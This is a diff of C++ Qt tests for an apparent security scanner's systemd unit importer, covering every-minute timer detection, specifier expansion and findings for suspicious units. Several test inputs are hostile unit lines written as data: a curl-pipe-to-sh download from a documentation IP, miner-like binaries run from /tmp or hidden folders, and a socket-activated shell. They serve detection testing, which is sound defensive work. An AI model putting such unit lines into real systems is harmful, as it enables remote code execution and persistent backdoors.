@@ -5,6 +5,7 @@
 
 #include "import/LogLayout.h"
 #include "import/importers/SystemdUnitImporter.h"
+#include "import/importers/UnitFileText.h"
 #include "query/ResourceQuery.h"
 #include "util/Hash.h"
 
@@ -82,6 +83,9 @@ private slots:
     void socketUnit();
     void intrudersService();
     void timerAndServiceEveryMinute();
+    void timerEveryMinuteAsARange();
+    void calendarEveryMinute_data();
+    void calendarEveryMinute();
     void usersOwnUnit();
     void dropInOverridesExecStart();
     void brokenUnit();
@@ -90,6 +94,11 @@ private slots:
     void detections_data();
     void detections();
     void variablesInTheFinding();
+    void specifiers_data();
+    void specifiers();
+    void specifiersStayBounded();
+    void specifiersInTheFinding();
+    void instancesAndTemplates();
     void howSettingsAreRead();
     void secretsNeverReachTheCase();
     void emptyAndUnusable();
@@ -274,6 +283,144 @@ void TestSystemdUnitImporter::timerAndServiceEveryMinute()
              QStringLiteral("the systemd unit apt-check.service downloads code and runs it on node worker-1"));
 }
 
+void TestSystemdUnitImporter::timerEveryMinuteAsARange()
+{
+    // "00..59" names every minute of every hour as "*" does.
+    const MemoryImport t =
+        runFixture("kworker-sync.timer", QStringLiteral("worker-1/etc/systemd/system/timers.target.wants/"
+                                                        "kworker-sync.timer"));
+    QVERIFY(t.result.hasValue());
+    QCOMPARE(t.result.value().skipped, 0);
+    QCOMPARE(bodyOf(t).value(QStringLiteral("timer")).toObject().value(QStringLiteral("OnCalendar")).toArray(),
+             QJsonArray{QStringLiteral("*-*-* *:00..59:00")});
+    QCOMPARE(bodyOf(t).value(QStringLiteral("activates")).toString(), QStringLiteral("kworker-sync.service"));
+    QCOMPARE(findingLines(t), QStringList{QStringLiteral("node.systemd.every-minute@7")});
+    const Finding* f = findingFor(t, QStringLiteral("node.systemd.every-minute"), QStringLiteral("kworker-sync.timer"));
+    QVERIFY(f);
+    QCOMPARE(f->severity, Severity::Low);
+    QVERIFY2(f->detail.contains(QLatin1String("OnCalendar= on line 7 of /etc/systemd/system/timers.target.wants/"
+                                              "kworker-sync.timer: *-*-* *:00..59:00")),
+             qPrintable(f->detail));
+}
+
+void TestSystemdUnitImporter::calendarEveryMinute_data()
+{
+    QTest::addColumn<QByteArray>("calendar");
+    QTest::addColumn<bool>("everyMinute");
+    // Lists of every value of a field, and of all but one.
+    QByteArray minutes;
+    QByteArray hours;
+    QByteArray minutesButOne;
+    for (int m = 0; m < 60; ++m) {
+        minutes += (m > 0 ? "," : "") + QByteArray::number(m);
+        if (m != 37)
+            minutesButOne += (minutesButOne.isEmpty() ? "" : ",") + QByteArray::number(m);
+    }
+    for (int h = 0; h < 24; ++h)
+        hours += (h > 0 ? "," : "") + QByteArray::number(h);
+    QByteArray paddedMinutes;
+    for (int m = 59; m >= 0; --m)
+        paddedMinutes += (m < 59 ? "," : "") + QByteArray::number(m).rightJustified(2, '0');
+
+    const auto row = [](const char* name, const QByteArray& calendar, bool everyMinute) {
+        QTest::newRow(name) << calendar << everyMinute;
+    };
+    // Every minute of every hour, however written.
+    row("minutely", "minutely", true);
+    row("*:*", "*:*", true);
+    row("*:*:*", "*:*:*", true);
+    row("*:*:00", "*:*:00", true);
+    row("full form", "*-*-* *:*:00", true);
+    row("*:0/1", "*:0/1", true);
+    row("*:*/1", "*:*/1", true);
+    row("*/1:*", "*/1:*", true);
+    row("0/1:0/1", "0/1:0/1", true);
+    row("minute range", "*:0..59", true);
+    row("padded minute range", "*:00..59", true);
+    row("padded range with seconds", "*-*-* *:00..59:00", true);
+    row("both ranges", "0..23:0..59", true);
+    row("padded both ranges", "00..23:00..59:00", true);
+    row("range with repetition 1", "*:0..59/1", true);
+    row("hour range with repetition 1", "0..23/1:*", true);
+    row("two ranges", "*:0..29,30..59", true);
+    row("ranges, values and a range", "*:0..9,10..19,20,21,22..59", true);
+    row("overlapping ranges", "*:0..40,20..59", true);
+    row("a repetition from 0 and one more value", "*:0/1,5", true);
+    row("every minute listed", "*:" + minutes, true);
+    row("every minute listed backwards, padded", "*:" + paddedMinutes, true);
+    row("every hour listed", hours + ":*", true);
+    row("hour ranges", "*-*-* 0..11,12..23:*", true);
+    row("on weekdays only", "Mon..Fri *-*-* *:0..59:00", true);
+    row("with a time zone", "*-*-* *:0..59 Europe/Berlin", true);
+    row("every 10 seconds", "*:*:0/10", true);
+    row("every 15 seconds of a range", "*:0..59:0/15", true);
+    row("blanks around", "  *:0..59  ", true);
+
+    // Not every minute of every hour.
+    row("first half hour", "*:0..30", false);
+    row("every 5 minutes", "*:0/5", false);
+    row("every 2 minutes", "*:*/2", false);
+    row("office hours", "9..17:*", false);
+    row("office hours, every minute", "9..17:0..59", false);
+    row("all hours but the last", "0..22:*", false);
+    row("all minutes but the first", "*:1..59", false);
+    row("all minutes but the last", "*:0..58", false);
+    row("from 5 on", "*:5/1", false);
+    row("every minute but one listed", "*:" + minutesButOne, false);
+    row("three minutes", "*:0,1,2", false);
+    row("even minutes as a range", "*:0..59/2", false);
+    row("hourly", "hourly", false);
+    row("daily", "daily", false);
+    row("midnight", "*-*-* 00:00:00", false);
+    row("at 6 and 18", "*-*-* 6,18:00", false);
+    row("a date only", "*-*-01", false);
+    row("empty", "", false);
+
+    // What systemd refuses fires never; nothing here may crash.
+    row("range without an end", "*:0..", false);
+    row("range backwards", "*:59..0", false);
+    row("range of nothing", "*:..", false);
+    row("range without a start", "*:..59", false);
+    row("three dots", "*:0...59", false);
+    row("minute past the hour", "*:0..60", false);
+    row("hour past the day", "0..24:*", false);
+    row("repetition of 0", "*:0/0", false);
+    row("star repetition of 0", "*:*/0", false);
+    row("repetition without a number", "*:0..59/", false);
+    row("repetition without a start", "*:/1", false);
+    row("two repetitions", "*:0..59/1/1", false);
+    row("huge minute", "*:99999999999999999999", false);
+    row("huge range end", "*:0..99999999999", false);
+    row("huge hour range", "0..18446744073709551616:*", false);
+    row("huge repetition", "*:0/4294967297", false);
+    row("huge star repetition", "*:*/18446744073709551617", false);
+    row("empty list item", "*:0,,1..59", false);
+    row("trailing comma", "*:0..59,", false);
+    row("leading comma", "*:,0..59", false);
+    row("negative", "*:-1..59", false);
+    row("a word", "*:a", false);
+    row("hex", "*:0x1", false);
+    row("star in a list", "*:*,5", false);
+    row("two stars", "**:*", false);
+    row("colon alone", ":", false);
+    row("no minute", "*:", false);
+    row("no hour", ":*", false);
+    row("a lone star", "*", false);
+}
+
+void TestSystemdUnitImporter::calendarEveryMinute()
+{
+    QFETCH(QByteArray, calendar);
+    QFETCH(bool, everyMinute);
+    QCOMPARE(unitfile::firesEveryMinute(std::string_view(calendar.constData(), size_t(calendar.size()))), everyMinute);
+    // The same through a timer: a finding when it fires every minute, and the timer kept either way.
+    const MemoryImport m =
+        runBytes("[Timer]\nOnCalendar=" + calendar + '\n', QStringLiteral("worker-1/etc/systemd/system/x.timer"));
+    QVERIFY(m.result.hasValue());
+    QCOMPARE(m.out.resources.size(), size_t(1));
+    QCOMPARE(findingLines(m), everyMinute ? QStringList{QStringLiteral("node.systemd.every-minute@2")} : QStringList());
+}
+
 void TestSystemdUnitImporter::usersOwnUnit()
 {
     const MemoryImport m = runFixture(
@@ -393,7 +540,8 @@ void TestSystemdUnitImporter::packagedUnitsHaveNoFindings_data()
 {
     QTest::addColumn<QString>("name");
     for (const char* f : {"ssh.service", "containerd.service", "docker.service", "docker.socket", "logrotate.timer",
-                          "logrotate.service", "apt-daily.timer", "fstrim.timer", "systemd-tmpfiles-clean.timer"})
+                          "logrotate.service", "apt-daily.timer", "fstrim.timer", "systemd-tmpfiles-clean.timer",
+                          "getty@.service", "systemd-fsck@.service"})
         QTest::newRow(f) << QString::fromLatin1(f);
 }
 
@@ -491,6 +639,44 @@ void TestSystemdUnitImporter::detections_data()
                                          << system << none;
     QTest::newRow("an unknown variable") << QByteArray("[Service]\nExecStart=/bin/sh -c \"$RUN\"") << system << none;
 
+    // What a command does with the unit's specifiers in, as systemd loads it.
+    QTest::newRow("program in %T") << QByteArray("[Service]\nExecStart=%T/kdevtmpfsi --quiet") << system
+                                   << QStringList{tmp};
+    QTest::newRow("program in %V named after the unit")
+        << QByteArray("[Service]\nExecStart=%V/%p-worker") << system << QStringList{tmp};
+    QTest::newRow("download named by %N, found once")
+        << QByteArray("[Service]\nExecStart=/bin/sh -c 'curl -s http://203.0.113.9/%N | sh'") << system
+        << QStringList{dl};
+    QTest::newRow("hidden folder in %h, found once")
+        << QByteArray("[Service]\nExecStart=%h/.cache/.k") << system << QStringList{tmp};
+    QTest::newRow("a shell run from %T") << QByteArray("[Service]\nExecStart=/bin/sh %T/.s") << system
+                                         << QStringList{tmp};
+    QTest::newRow("%T and a variable") << QByteArray("[Service]\nEnvironment=BIN=kworker\nExecStart=%T/${BIN}")
+                                       << system << QStringList{tmp};
+    QTest::newRow("a specifier in a variable's value")
+        << QByteArray("[Service]\nEnvironment=DIR=%T\nExecStart=${DIR}/x/run") << system << QStringList{tmp};
+    QTest::newRow("instance names the folder")
+        << QByteArray("[Service]\nExecStart=/%i/worker") << QStringLiteral("etc/systemd/system/worker@tmp.service")
+        << QStringList{tmp};
+    QTest::newRow("instance unescaped") << QByteArray("[Service]\nExecStart=/%I/run")
+                                        << QStringLiteral("etc/systemd/system/x@var-tmp-cache.service")
+                                        << QStringList{tmp};
+    QTest::newRow("instance as a path") << QByteArray("[Service]\nExecStart=%f")
+                                        << QStringLiteral("etc/systemd/system/x@dev-shm-x.service") << QStringList{tmp};
+    QTest::newRow("a template's instance is not known") << QByteArray("[Service]\nExecStart=/%i/worker")
+                                                        << QStringLiteral("etc/systemd/system/worker@.service") << none;
+    QTest::newRow("user: %C is the user's cache")
+        << QByteArray("[Service]\nExecStart=%C/sync/agent") << user << QStringList{tmp};
+    QTest::newRow("user: %h is the user's home") << QByteArray("[Service]\nExecStart=%h/bin/agent") << user << none;
+    QTest::newRow("state folder") << QByteArray("[Service]\nExecStart=%S/app/bin/app --run %t/app") << system << none;
+    QTest::newRow("%% is a percent sign")
+        << QByteArray("[Service]\nExecStart=/usr/bin/printf '%%T/x %%s' %%T") << system << none;
+    QTest::newRow("an unknown specifier")
+        << QByteArray("[Service]\nExecStart=/usr/bin/app --id %m --boot %b") << system << none;
+    QTest::newRow("the manager's shell on a socket") << QByteArray("[Service]\nExecStart=-%s\nStandardInput=socket")
+                                                     << QStringLiteral("etc/systemd/system/sys-update@.service")
+                                                     << QStringList{QStringLiteral("node.systemd.bind-shell")};
+
     // A shell on a socket: socket activation hands it each connection.
     const QString bind = QStringLiteral("node.systemd.bind-shell");
     const QString accepted = QStringLiteral("etc/systemd/system/sys-update@.service");
@@ -577,6 +763,200 @@ void TestSystemdUnitImporter::variablesInTheFinding()
         QVERIFY(!g.detail.contains(QString::fromLatin1(token)));
     for (const auto& r : m.out.resources)
         QVERIFY(!r.body.contains(QString::fromLatin1(token)));
+}
+
+void TestSystemdUnitImporter::specifiers_data()
+{
+    QTest::addColumn<QByteArray>("text");
+    QTest::addColumn<QByteArray>("unit");
+    QTest::addColumn<bool>("userManager");
+    QTest::addColumn<QByteArray>("owner");
+    QTest::addColumn<QByteArray>("host");
+    QTest::addColumn<QByteArray>("expected");
+    QTest::addColumn<QByteArray>("letters"); // those put in, each once, in order
+
+    const QByteArray fsck = "systemd-fsck@dev-disk-by\\x2duuid-4f1c.service";
+    const auto sys = [](const char* name, const QByteArray& text, const QByteArray& unit, const QByteArray& expected,
+                        const QByteArray& letters) {
+        QTest::newRow(name) << text << unit << false << QByteArray() << QByteArray("worker-1.example.internal")
+                            << expected << letters;
+    };
+    // The unit's name.
+    sys("%n", "%n", "ssh.service", "ssh.service", "n");
+    sys("%N", "%N", "ssh.service", "ssh", "N");
+    sys("%p %P", "%p %P", "ssh.service", "ssh ssh", "pP");
+    sys("no instance: %i %I empty", "[%i][%I]", "ssh.service", "[][]", "iI");
+    sys("no instance: %f the prefix", "%f", "ssh.service", "/ssh", "f");
+    sys("%j without a dash", "%j", "ssh.service", "ssh", "j");
+    sys("instance %i", "%i", fsck, "dev-disk-by\\x2duuid-4f1c", "i");
+    sys("instance %I unescaped", "%I", fsck, "dev/disk/by-uuid/4f1c", "I");
+    sys("instance %f a path", "%f", fsck, "/dev/disk/by-uuid/4f1c", "f");
+    sys("instance %n %N", "%n %N", fsck, fsck + " systemd-fsck@dev-disk-by\\x2duuid-4f1c", "nN");
+    sys("instance %p %P", "%p %P", fsck, "systemd-fsck systemd/fsck", "pP");
+    sys("instance %j %J", "%j %J", fsck, "fsck fsck", "jJ");
+    sys("getty's command", "-/sbin/agetty -o '-p -- \\u' --noclear %I $TERM", "getty@tty1.service",
+        "-/sbin/agetty -o '-p -- \\u' --noclear tty1 $TERM", "I");
+    sys("the root as an instance", "%f", "mnt@-.service", "/", "f");
+    sys("a broken escape stays", "%I", "x@a\\xZZ.timer", "%I", "");
+    sys("a timer's name", "%n", "logrotate.timer", "logrotate.timer", "n");
+    // A template's instance is each instance's: not known.
+    sys("template %i %I %f stay", "%i %I %f", "getty@.service", "%i %I %f", "");
+    sys("template %n %N stay", "%n %N", "getty@.service", "%n %N", "");
+    sys("template %p %j", "%p %j", "serial-getty@.service", "serial-getty getty", "pj");
+    // A name not known.
+    sys("no name: name specifiers stay", "%n %N %p %P %i %I %j %J %f", "", "%n %N %p %P %i %I %j %J %f", "");
+    sys("no name: folders still known", "%T", "", "/tmp", "T");
+    // The system manager's user and folders: root's, whatever User= says.
+    sys("system user", "%u %U %g %G %h %s", "x.service", "root 0 root 0 /root /bin/sh", "uUgGhs");
+    sys("system folders", "%t %S %C %L %E %D %T %V", "x.service",
+        "/run /var/lib /var/cache /var/log /etc /usr/share /tmp /var/tmp", "tSCLEDTV");
+    sys("host", "%H %l", "x.service", "worker-1.example.internal worker-1", "Hl");
+    // Percent signs.
+    sys("%% a percent", "100%%", "x.service", "100%", "");
+    sys("%%h is no specifier", "%%h", "x.service", "%h", "");
+    sys("%%%h", "%%%h", "x.service", "%/root", "h");
+    sys("a lone % at the end", "50%", "x.service", "50%", "");
+    sys("only %", "%", "x.service", "%", "");
+    sys("unknown specifiers stay", "%b %m %v %a %o %Z %1 %-", "x.service", "%b %m %v %a %o %Z %1 %-", "");
+    sys("url escapes", "http://198.51.100.7/a%20b%2Fc", "x.service", "http://198.51.100.7/a%20b%2Fc", "");
+    sys("each letter once, in order", "%T/%h/%T/%n", "x.service", "/tmp//root//tmp/x.service", "Thn");
+    sys("no specifier", "/usr/bin/app --flag", "x.service", "/usr/bin/app --flag", "");
+    sys("empty", "", "x.service", "", "");
+
+    // A user's manager: the user's home and folders, what depends on the uid not known.
+    const auto user = [](const char* name, const QByteArray& text, const QByteArray& owner,
+                         const QByteArray& expected) {
+        QTest::newRow(name) << text << QByteArray("sync.service") << true << owner << QByteArray() << expected
+                            << QByteArray();
+    };
+    user("user: known", "%u %h %C %E %D %T %V", "deploy",
+         "deploy /home/deploy /home/deploy/.cache /home/deploy/.config /home/deploy/.local/share /tmp /var/tmp");
+    user("user: uid and runtime not known", "%U %g %G %s %t %S %L", "deploy", "%U %g %G %s %t %S %L");
+    user("user: root's home", "%u %h", "root", "root /root");
+    user("user: whose not known", "%u %h %C %E %T", "", "%u %h %C %E /tmp");
+    user("user: no host", "%H %l", "deploy", "%H %l");
+}
+
+void TestSystemdUnitImporter::specifiers()
+{
+    QFETCH(QByteArray, text);
+    QFETCH(QByteArray, unit);
+    QFETCH(bool, userManager);
+    QFETCH(QByteArray, owner);
+    QFETCH(QByteArray, host);
+    QFETCH(QByteArray, expected);
+    QFETCH(QByteArray, letters);
+    const auto view = [](const QByteArray& b) { return std::string_view(b.constData(), size_t(b.size())); };
+    unitfile::Specifiers values;
+    values.unit = view(unit);
+    values.userManager = userManager;
+    values.owner = view(owner);
+    values.host = view(host);
+    std::string put;
+    const std::string out = unitfile::expandSpecifiers(view(text), values, &put);
+    QCOMPARE(QByteArray::fromStdString(out), expected);
+    if (!userManager)
+        QCOMPARE(QByteArray::fromStdString(put), letters);
+    QCOMPARE(unitfile::expandSpecifiers(view(text), values), out); // the letters are optional
+}
+
+void TestSystemdUnitImporter::specifiersStayBounded()
+{
+    // 100,000 specifiers of a 200-byte name: 64 KiB of values put in, the rest as written.
+    const std::string name = std::string(192, 'a') + ".service";
+    unitfile::Specifiers values;
+    values.unit = name;
+    std::string text;
+    for (int i = 0; i < 100000; ++i)
+        text += "%n";
+    const std::string out = unitfile::expandSpecifiers(text, values);
+    QVERIFY(out.size() <= text.size() + 64 * 1024 + name.size());
+    QVERIFY(out.substr(0, name.size()) == name);
+    QVERIFY(out.substr(out.size() - 4) == "%n%n");
+
+    // Through the importer: a command of many specifiers is read, judged and bounded.
+    QByteArray unit = "[Service]\nExecStart=/usr/bin/app";
+    for (int i = 0; i < 60000; ++i)
+        unit += " %T";
+    const MemoryImport m = runBytes(unit + '\n');
+    QVERIFY(m.result.hasValue());
+    QCOMPARE(m.out.resources.size(), size_t(1));
+    QVERIFY(m.out.findings.empty());
+}
+
+void TestSystemdUnitImporter::specifiersInTheFinding()
+{
+    const MemoryImport m =
+        runFixture("kdevtmpfs.service", QStringLiteral("worker-1/etc/systemd/system/kdevtmpfs.service"));
+    QVERIFY(m.result.hasValue());
+    QCOMPARE(m.result.value().skipped, 0);
+    // The download its own words show; the program systemd runs from /tmp once %T is put in; the
+    // hidden folder its own words show.
+    QCOMPARE(findingLines(m), (QStringList{QStringLiteral("node.systemd.download-exec@7"),
+                                           QStringLiteral("node.systemd.runs-from-temp@8"),
+                                           QStringLiteral("node.systemd.runs-from-temp@9")}));
+    // The resource keeps the file's own text.
+    QCOMPARE(commands(m).value(1), QStringLiteral("ExecStart@8 %T/kdevtmpfsi --quiet"));
+    QCOMPARE(commands(m).value(2), QStringLiteral("ExecStopPost@9 %h/.cache/.k/sync -d"));
+    // The finding says what was put in, and shows the command as systemd runs it.
+    QStringList details;
+    for (const Finding& f : m.out.findings) {
+        if (f.line == 8)
+            details << f.detail;
+    }
+    QCOMPARE(details.size(), 1);
+    QVERIFY2(details[0].contains(QLatin1String("ExecStart= on line 8 of /etc/systemd/system/kdevtmpfs.service, with "
+                                               "its specifiers (%T = /tmp): /tmp/kdevtmpfsi --quiet")),
+             qPrintable(details[0]));
+
+    // Specifiers and variables together; the host is the node's name.
+    SystemdUnitImporter importer;
+    SourceHints hints;
+    hints.node = QStringLiteral("worker-1");
+    const MemoryImport both =
+        importBytes(importer, "[Service]\nEnvironment=BIN=kworker\nExecStart=%V/%p-${BIN} --id %H\n",
+                    QStringLiteral("worker-1/etc/systemd/system/net-helper.service"), {}, hints);
+    QCOMPARE(findingLines(both), QStringList{QStringLiteral("node.systemd.runs-from-temp@3")});
+    QVERIFY2(both.out.findings.front().detail.contains(
+                 QLatin1String("ExecStart= on line 3 of /etc/systemd/system/net-helper.service, with its specifiers "
+                               "(%V = /var/tmp, %p = net-helper, %H = worker-1) and variables: "
+                               "/var/tmp/net-helper-kworker --id worker-1")),
+             qPrintable(both.out.findings.front().detail));
+    QCOMPARE(commands(both), QStringList{QStringLiteral("ExecStart@3 %V/%p-${BIN} --id %H")});
+}
+
+void TestSystemdUnitImporter::instancesAndTemplates()
+{
+    // getty@.service, as packaged and as the instance link systemctl enables: quiet either way, its
+    // command kept as written.
+    for (const char* path : {"worker-1/lib/systemd/system/getty@.service",
+                             "worker-1/etc/systemd/system/getty.target.wants/getty@tty1.service"}) {
+        const MemoryImport m = runFixture("getty@.service", QLatin1String(path));
+        QVERIFY(m.result.hasValue());
+        QVERIFY2(m.out.findings.empty(), qPrintable(findingLines(m).join(QLatin1Char(' '))));
+        QCOMPARE(commands(m), QStringList{QStringLiteral("ExecStart@10 -/sbin/agetty -o '-p -- \\\\u' --noclear %I "
+                                                         "$TERM")});
+    }
+    const MemoryImport fsck = runFixture(
+        "systemd-fsck@.service",
+        QStringLiteral(
+            "worker-1/etc/systemd/system/local-fs.target.wants/systemd-fsck@dev-disk-by\\x2duuid-4f1c.service"));
+    QVERIFY(fsck.result.hasValue());
+    QVERIFY(fsck.out.findings.empty());
+
+    // The same command as a template, an instance of a harmless folder and one of /tmp.
+    const QByteArray unit = "[Service]\nExecStart=/%I/cache-clean\n";
+    QVERIFY(runBytes(unit, QStringLiteral("worker-1/etc/systemd/system/clean@.service")).out.findings.empty());
+    QVERIFY(runBytes(unit, QStringLiteral("worker-1/etc/systemd/system/clean@var-cache.service")).out.findings.empty());
+    QCOMPARE(findingLines(runBytes(unit, QStringLiteral("worker-1/etc/systemd/system/clean@tmp.service"))),
+             QStringList{QStringLiteral("node.systemd.runs-from-temp@2")});
+    // A drop-in of an instance is the instance's; one of every "clean-….service" names no unit.
+    QCOMPARE(findingLines(runBytes(unit, QStringLiteral("worker-1/etc/systemd/system/clean@tmp.service.d/x.conf"))),
+             QStringList{QStringLiteral("node.systemd.runs-from-temp@2")});
+    const QByteArray named = "[Service]\nExecStart=/var/%j/x\n";
+    QCOMPARE(findingLines(runBytes(named, QStringLiteral("worker-1/etc/systemd/system/app-tmp.service"))),
+             QStringList{QStringLiteral("node.systemd.runs-from-temp@2")});
+    QVERIFY(runBytes(named, QStringLiteral("worker-1/etc/systemd/system/app-.service.d/x.conf")).out.findings.empty());
 }
 
 void TestSystemdUnitImporter::howSettingsAreRead()
